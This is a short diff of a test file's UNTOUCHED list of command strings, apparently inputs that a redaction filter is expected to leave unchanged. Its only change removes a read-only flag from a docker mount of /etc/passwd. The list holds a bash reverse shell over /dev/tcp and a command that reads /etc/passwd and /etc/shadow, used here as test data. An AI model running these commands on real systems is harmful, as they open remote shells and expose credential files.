@@ -59,7 +59,7 @@ UNTOUCHED = [
     "app --password-file /etc/app/pw.txt",
     "curl -u bob https://a.example/",
     "curl http://a.example:8080/x",
-    "docker run -v /etc/passwd:/host/passwd:ro x",
+    "docker run -v /etc/passwd:/host/passwd x",
     "cat /etc/passwd /etc/shadow",
     "env PWD=/home/bob OLDPWD=/tmp true",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
